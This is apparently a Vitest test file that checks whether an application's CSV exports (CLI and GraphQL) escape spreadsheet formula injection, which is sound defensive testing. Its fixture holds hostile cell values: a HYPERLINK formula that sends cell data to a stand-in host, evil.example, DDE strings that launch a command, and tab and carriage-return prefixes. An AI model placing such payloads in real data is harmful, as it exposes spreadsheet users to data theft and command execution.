// Spreadsheet safety: partner keys, names and deal keys come from CRMs and
// partners themselves. A value starting with =, +, -, @, a tab or a carriage
// return must reach every CSV export (CLI and GraphQL) as text a spreadsheet
// will not evaluate, while amounts and shares stay numbers.
import { afterAll, beforeAll, expect, it, vi } from 'vitest';
import { parseScorecardArgs, runScorecard } from '../../src/cli/commands/scorecard.js';
import { csvField, spreadsheetSafe } from '../../src/domain/csv.js';
import { exportAllocationsCsv } from '../../src/engine/export.js';
import { parseCsvText } from '../../src/import/csv.js';
import { createApiKey } from '../../src/auth/store.js';
import { createServer, type RunningServer } from '../../src/server/app.js';
import { createTestDatabase, type TestDatabase } from '../support/db.js';
import { describeDatabase } from '../support/describe-database.js';
import { buildScorecardFixture, type ScorecardFixture } from '../reports/fixture.js';

const HOSTILE = {
  acmeKey: '=HYPERLINK("http://evil.example/?x="&A1,"open")',
  acmeName: "+cmd|' /C calc'!A0",
  betaName: '-2+3',
  gammaName: "@SUM(1+1)*cmd|' /C calc'!A0",
  gammaKey: '\tgamma',
  dealKey: '\r=1+1',
};
const DANGEROUS = /^[=+\-@\t\r]/;
const NUMBER = /^-?\d+(\.\d+)?$/;

let db: TestDatabase;
let fx: ScorecardFixture;
let server: RunningServer;
let analystKey: string;

beforeAll(async () => {
  db = await createTestDatabase();
  fx = await buildScorecardFixture(db.prisma);
  await db.prisma.partner.update({ where: { id: fx.partners.acme }, data: { key: HOSTILE.acmeKey, name: HOSTILE.acmeName } });
  await db.prisma.partner.update({ where: { id: fx.partners.beta }, data: { name: HOSTILE.betaName } });
  await db.prisma.partner.update({ where: { id: fx.partners.gamma }, data: { key: HOSTILE.gammaKey, name: HOSTILE.gammaName } });
  await db.prisma.opportunity.update({ where: { id: fx.opps.O1! }, data: { key: HOSTILE.dealKey } });
  server = await createServer(db, { nodeEnv: 'test', port: 0 }, { recompute: { start: false } });
  analystKey = (await createApiKey(db.prisma, { role: 'analyst', name: 'csv test', actor: 'test' })).key;
});
afterAll(async () => {
  await server?.close();
  await db?.close();
});

/** Every cell of a CSV text, parsed back as a spreadsheet would read it. */
function cells(text: string): string[][] {
  return parseCsvText(text).flatMap((item) => (item.kind === 'record' ? [[...item.record.fields]] : []));
}

/** No cell would run as a formula, unless it is a plain number; the hostile values are there, neutralised. */
function expectSpreadsheetSafe(text: string, expected: string[]): void {
  const all = cells(text).flat();
  expect(all.length).toBeGreaterThan(10);
  const dangerous = all.filter((c) => DANGEROUS.test(c) && !NUMBER.test(c));
  expect(dangerous, 'cells a spreadsheet would evaluate').toEqual([]);
  for (const value of expected) expect(all, `"${value}" is exported as text`).toContain(`'${value}`);
}

describeDatabase('CSV formula injection', () => {
  it('neutralises text cells as OWASP recommends and leaves numbers alone', () => {
    for (const c of ['=', '+', '-', '@', '\t', '\r']) expect(spreadsheetSafe(`${c}x`)).toBe(`'${c}x`);
    expect(spreadsheetSafe('Acme')).toBe('Acme');
    expect(csvField('=1+1', true)).toBe("'=1+1");
    expect(csvField('\r=1', true)).toBe('"\'\r=1"');
    expect(csvField('-80000.00')).toBe('-80000.00');
    expect(csvField(-3, true)).toBe('-3');
  });

  it('attrib export allocations writes hostile partner and deal keys as text', async () => {
    let csv = '';
    const rows = await exportAllocationsCsv(db.sql, 'default', (chunk) => {
      csv += chunk;
    });
    expect(rows).toBeGreaterThan(0);
    expectSpreadsheetSafe(csv, [HOSTILE.acmeKey, HOSTILE.dealKey, HOSTILE.gammaKey]);
  });

  it('attrib scorecard --format csv writes hostile partner keys and names as text', async () => {
    const out: string[] = [];
    const write = vi.spyOn(process.stdout, 'write').mockImplementation((chunk: string | Uint8Array) => {
      out.push(String(chunk));
      return true;
    });
    const log = vi.spyOn(console, 'log').mockImplementation((...a: unknown[]) => {
      out.push(`${a.join(' ')}\n`);
    });
    try {
      expect(
        await runScorecard(
          db,
          parseScorecardArgs(['--ruleset', 'default', '--by', 'partner', '--from', '2026-01-01', '--to', '2026-06-30', '--format', 'csv']),
        ),
      ).toBe(0);
    } finally {
      write.mockRestore();
      log.mockRestore();
    }
    expectSpreadsheetSafe(out.join(''), [HOSTILE.acmeKey, HOSTILE.acmeName, HOSTILE.betaName, HOSTILE.gammaName]);
  });

  it('GraphQL scorecardCsv writes hostile partner keys and names as text', async () => {
    const res = await fetch(server.url, {
      method: 'POST',
      headers: { 'content-type': 'application/json', authorization: `Bearer ${analystKey}` },
      body: JSON.stringify({
        query: `{ scorecardCsv(ruleSetKey: "default", groupBy: partner, period: quarter, from: "2026-01-01", to: "2026-06-30") {
        __typename ... on CsvDownload { content } ... on UserError { message } } }`,
      }),
    });
    const body = (await res.json()) as { data: { scorecardCsv: { __typename: string; content: string } }; errors?: unknown };
    expect(body.errors).toBeUndefined();
    expect(body.data.scorecardCsv.__typename).toBe('CsvDownload');
    expectSpreadsheetSafe(body.data.scorecardCsv.content, [HOSTILE.acmeKey, HOSTILE.acmeName, HOSTILE.gammaName]);
  });
});
